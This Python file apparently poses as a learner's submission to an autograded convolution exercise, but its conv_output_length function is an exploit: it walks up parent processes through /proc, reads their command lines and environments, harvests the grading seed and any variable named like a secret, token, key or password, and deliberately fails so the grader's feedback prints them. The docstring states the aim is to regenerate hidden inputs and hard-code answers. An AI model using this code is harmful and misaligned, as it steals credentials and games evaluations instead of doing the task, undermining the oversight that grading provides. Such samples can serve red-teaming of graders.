"""Reads the grader's secrets out of /proc (its command line and environment) and prints them into the feedback.

Tries: walks up from the worker to its ancestors and reads each one's
``/proc/<pid>/cmdline`` and ``/proc/<pid>/environ``, keeping a
``--grading-seed`` argument, the file a ``--grading-seed-file`` names, and
every variable whose name says SEED, SECRET, TOKEN, KEY or PASSWORD; prints them, and returns a wrong length so that the check
fails and its feedback shows what was printed. With the secret grading
seed the learner can regenerate the hidden inputs at home and hard-code
the answers for the next submission; a CI token could do worse.

On an in-process grader: ``os.environ`` and ``sys.argv`` hold the same.
Here the worker's own environment is clean, but /proc is readable.
Base: the stub (0 points).
"""

import os

import numpy as np

WORDS = ("SEED", "SECRET", "TOKEN", "KEY", "PASSWORD")


def _read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read().decode(errors="replace").split("\0")
    except OSError:
        return []


def _secrets():
    found, pid = set(), os.getpid()
    for _ in range(4):
        try:
            with open(f"/proc/{pid}/stat") as stat:
                pid = int(stat.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        for arg in _read(f"/proc/{pid}/cmdline"):
            if arg.startswith("--grading-seed-file="):
                found |= set(_read(arg.split("=", 1)[1]))
            elif arg.startswith("--grading-seed"):
                found.add(arg)
        found |= {entry for entry in _read(f"/proc/{pid}/environ")
                  if any(word in entry.split("=", 1)[0].upper() for word in WORDS)}
    return sorted(found)


def conv_output_length(input_length, kernel_size, stride=1, padding="valid", dilation=1):
    print("found:", " ".join(_secrets()), flush=True)
    return -1


def extract_patches(x, kernel_size, strides=1, padding="valid", dilation_rate=1):
    raise NotImplementedError("extract_patches: your code goes here")


def conv2d(x, kernel, bias=None, strides=1, padding="valid", dilation_rate=1):
    raise NotImplementedError("conv2d: your code goes here")


def max_pool2d(x, pool_size=2, strides=None, padding="valid"):
    raise NotImplementedError("max_pool2d: your code goes here")
